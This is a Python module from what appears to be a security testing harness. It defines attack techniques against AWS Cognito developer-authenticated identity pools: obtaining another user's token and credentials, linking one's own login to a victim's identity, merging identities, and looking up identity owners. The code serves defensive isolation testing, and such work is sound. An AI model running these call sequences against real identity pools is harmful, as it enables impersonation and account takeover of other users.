"""Becoming another user of an application that tells the identity pool itself who its users are.

The calls are the application's; whoever may make them says who somebody is, or whose identities are one.
"""

from __future__ import annotations

from functools import partial
from typing import TYPE_CHECKING, Any

from harness.attacks.obtained import ByOperator, ObtainedCall
from harness.attacks.technique import Callers, ControlKind, Feature, Severity, Technique, Victim
from harness.blueprints.contract import Effect
from harness.blueprints.identity_trust import COGNITO
from harness.targets.api import ApiRequest

if TYPE_CHECKING:
    from collections.abc import Mapping, Sequence

    from harness.attacks.aim import Aim
    from harness.attacks.technique import Shows, Step
    from harness.targets.api import ApiResponse

_MODEL = "https://docs.aws.amazon.com/cognitoidentity/latest/APIReference/API_"
_WITNESS = "isolation-harness-witness"


def _call(aim: Aim, operation: str, **params: Any) -> ApiRequest:
    return ApiRequest("cognito-identity", operation, {"IdentityPoolId": aim.deployment.identity_pool, **params})


def _provider(aim: Aim) -> str:
    return str(aim.deployment.pool_settings["UpdateIdentityPool"]["DeveloperProviderName"])


def _token(aim: Aim, user: str, **named: str) -> ApiRequest:
    return _call(aim, "GetOpenIdTokenForDeveloperIdentity", Logins={_provider(aim): user}, **named)


def _credentials(answer: Mapping[str, Any]) -> ApiRequest:
    params = {"IdentityId": answer["IdentityId"], "Logins": {COGNITO: answer["Token"]}}
    return ApiRequest("cognito-identity", "GetCredentialsForIdentity", params)


def _as_the_victim(aim: Aim) -> tuple[Step, ...]:
    user = aim.victims_claims["sub"]
    return (_token(aim, user), _credentials, lambda answer: ObtainedCall.from_answer(answer, aim.asset.reading))


def _additional_login(aim: Aim) -> str:
    return f"isolation-harness-login-of-{aim.caller.username}"


def _linked(aim: Aim) -> tuple[Step, ...]:
    linking = _token(aim, _additional_login(aim), IdentityId=aim.victim.identity_id)
    return (linking, _credentials, lambda answer: ObtainedCall.from_answer(answer, aim.asset.reading))


def _unlinked(aim: Aim) -> tuple[ApiRequest, ...]:
    named = {"DeveloperProviderName": _provider(aim), "DeveloperUserIdentifier": _additional_login(aim)}
    return (_call(aim, "UnlinkDeveloperIdentity", IdentityId=aim.victim.identity_id, **named),)


def _merging(aim: Aim) -> tuple[Step, ...]:
    """Return the steps that merge two users whom nobody needs, made for it by the application's own means."""
    taken, taking = (f"{kind}-of-{aim.caller.username}" for kind in ("taken", "taking"))
    merge = _call(
        aim,
        "MergeDeveloperIdentities",
        SourceUserIdentifier=taken,
        DestinationUserIdentifier=taking,
        DeveloperProviderName=_provider(aim),
    )
    return (ByOperator(_token(aim, taken)), ByOperator(_token(aim, taking)), merge)


def _merged(aim: Aim) -> tuple[Step, ...]:
    # The taken user signs in once more, and whoever took it has the identity that comes of it.
    signing_in = ByOperator(_token(aim, f"taken-of-{aim.caller.username}"))
    return (*_merging(aim), signing_in, _credentials)


def _shows(name: str) -> Shows:
    def shows(_: Aim, responses: Sequence[ApiResponse]) -> bool:
        return bool(responses[-1].data.get(name))

    return shows


_DEVELOPER = partial(
    Technique,
    plane="identity-pool",
    effect=Effect.SESSION,
    severity=Severity.BLOCKER,
    requires=frozenset({Feature.DEVELOPER_IDENTITIES}),
    cwe=("CWE-290",),
    callers=Callers.MEMBERS,
    victims=Callers.MEMBERS,
    control=ControlKind.WITNESS,
)
_TOKEN = partial(
    _DEVELOPER,
    operation="GetOpenIdTokenForDeveloperIdentity",
    documentation=f"{_MODEL}GetOpenIdTokenForDeveloperIdentity.html",
    actions=("cognito-identity:GetOpenIdTokenForDeveloperIdentity",),
    operator_steps=lambda aim: (_token(aim, _WITNESS),),
    shows=_shows("Token"),
)

TECHNIQUES = (
    _TOKEN(
        id="identity-pool.session.developer-token-of-another",
        title="fetching the token of another user, as the application does",
        catalogue=("idp-administration-wildcard",),
        steps=_as_the_victim,
    ),
    _TOKEN(
        id="identity-pool.session.developer-login-linked",
        title="linking a login of one's own to another's identity",
        catalogue=("idp-administration-wildcard", "idp-guest-takeover-by-linking"),
        destructive=True,
        steps=_linked,
        operator_steps=lambda aim: _linked(aim)[:1],
        clean_up=_unlinked,
    ),
    _DEVELOPER(
        id="identity-pool.session.developer-identities-merged",
        title="merging another user's identity into one's own",
        operation="MergeDeveloperIdentities",
        documentation=f"{_MODEL}MergeDeveloperIdentities.html",
        catalogue=("idp-administration-wildcard", "idp-guest-takeover-by-linking"),
        actions=("cognito-identity:MergeDeveloperIdentities",),
        victim=Victim.NOBODY,
        destructive=True,
        steps=_merged,
        operator_steps=_merging,
        shows=_shows("IdentityId"),
    ),
    _DEVELOPER(
        id="identity-pool.session.developer-user-looked-up",
        title="looking up which user an identity belongs to",
        operation="LookupDeveloperIdentity",
        documentation=f"{_MODEL}LookupDeveloperIdentity.html",
        catalogue=("idp-administration-wildcard",),
        cwe=("CWE-200",),
        actions=("cognito-identity:LookupDeveloperIdentity",),
        severity=Severity.CRITICAL,
        first_step_decides=True,
        steps=lambda aim: (_call(aim, "LookupDeveloperIdentity", IdentityId=aim.victim.identity_id),),
        operator_steps=lambda aim: (_call(aim, "LookupDeveloperIdentity", IdentityId=aim.caller.identity_id),),
        shows=_shows("DeveloperUserIdentifierList"),
    ),
)
